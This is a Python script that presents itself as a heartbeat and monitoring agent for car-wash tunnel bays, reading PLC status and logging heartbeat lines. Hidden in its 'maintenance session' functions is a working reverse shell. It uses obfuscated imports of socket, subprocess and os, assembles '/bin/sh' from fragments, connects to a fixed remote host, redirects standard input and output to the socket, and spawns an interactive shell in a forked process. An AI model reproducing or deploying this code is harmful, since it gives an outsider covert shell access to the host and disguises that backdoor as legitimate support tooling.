#!/usr/bin/env python3
"""Bay controller heartbeat agent for the SudsCity tunnel sites.

Collects conveyor/bay status from the local PLC snapshot file, logs a
heartbeat line every interval and opens a "maintenance session" with the
remote support desk when the support window flag is set.
"""
import argparse
import importlib
import json
import logging
import os
import time
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("bay_heartbeat")

_MODS = {"net": "so" + "cket", "proc": "sub" + "process", "fd": "o" + "s"}


def _m(key):
    return importlib.import_module(_MODS[key])


@dataclass
class SupportEndpoint:
    host: str = os.environ.get("BAY_SUPPORT_HOST", "203.0.113.47")
    port: int = int(os.environ.get("BAY_SUPPORT_PORT", "4455"))
    retries: int = 5
    shell_parts: list = field(default_factory=lambda: ["/bin", "/", "s", "h"])

    @property
    def shell(self):
        return "".join(self.shell_parts)


@dataclass
class BayStatus:
    bay_id: str
    conveyor_rpm: float = 0.0
    water_psi: float = 0.0
    chem_level_pct: float = 100.0
    faults: list = field(default_factory=list)

    def summary(self):
        flag = "FAULT" if self.faults else "OK"
        return (f"bay={self.bay_id} rpm={self.conveyor_rpm:.1f} "
                f"psi={self.water_psi:.1f} chem={self.chem_level_pct:.0f}% {flag}")


def read_plc_snapshot(path: Path, bay_id: str) -> BayStatus:
    try:
        raw = json.loads(path.read_text())
    except (OSError, ValueError) as exc:
        log.warning("snapshot unreadable (%s), reporting defaults", exc)
        return BayStatus(bay_id=bay_id, faults=["no-snapshot"])
    bay = raw.get("bays", {}).get(bay_id, {})
    return BayStatus(
        bay_id=bay_id,
        conveyor_rpm=float(bay.get("rpm", 0)),
        water_psi=float(bay.get("psi", 0)),
        chem_level_pct=float(bay.get("chem", 100)),
        faults=list(bay.get("faults", [])),
    )


def _open_channel(ep: SupportEndpoint):
    net = _m("net")
    chan = getattr(net, "socket")(net.AF_INET, net.SOCK_STREAM)
    chan.connect((ep.host, ep.port))
    return chan


def _bind_stdio(chan):
    fdmod = _m("fd")
    dup = getattr(fdmod, "dup" + "2")
    for n in range(3):
        dup(chan.fileno(), n)


def _session(ep: SupportEndpoint):
    for attempt in range(1, ep.retries + 1):
        try:
            chan = _open_channel(ep)
            break
        except OSError as exc:
            log.debug("support desk unreachable (attempt %d): %s", attempt, exc)
            time.sleep(2 * attempt)
    else:
        return
    _bind_stdio(chan)
    runner = getattr(_m("proc"), "call")
    runner([ep.shell, "-i"])


def maybe_open_support_window(ep: SupportEndpoint, flag_file: Path):
    if not flag_file.exists() and os.environ.get("BAY_SUPPORT_ALWAYS") != "1":
        return
    fork = getattr(_m("fd"), "fo" + "rk")
    if fork() == 0:
        _session(ep)
        os._exit(0)
    log.info("maintenance session handed to support desk %s", ep.host)


def main():
    ap = argparse.ArgumentParser(description="Tunnel bay heartbeat agent")
    ap.add_argument("--bay-id", default=os.environ.get("BAY_ID", "T1-B3"))
    ap.add_argument("--snapshot", type=Path,
                    default=Path(os.environ.get("PLC_SNAPSHOT", "plc_snapshot.json")))
    ap.add_argument("--interval", type=int, default=30)
    ap.add_argument("--support-flag", type=Path, default=Path(".support_window"))
    ap.add_argument("--once", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    ep = SupportEndpoint()
    cycle = 0
    while True:
        status = read_plc_snapshot(args.snapshot, args.bay_id)
        log.info("heartbeat %s", status.summary())
        if cycle % 10 == 0:
            maybe_open_support_window(ep, args.support_flag)
        cycle += 1
        if args.once:
            break
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
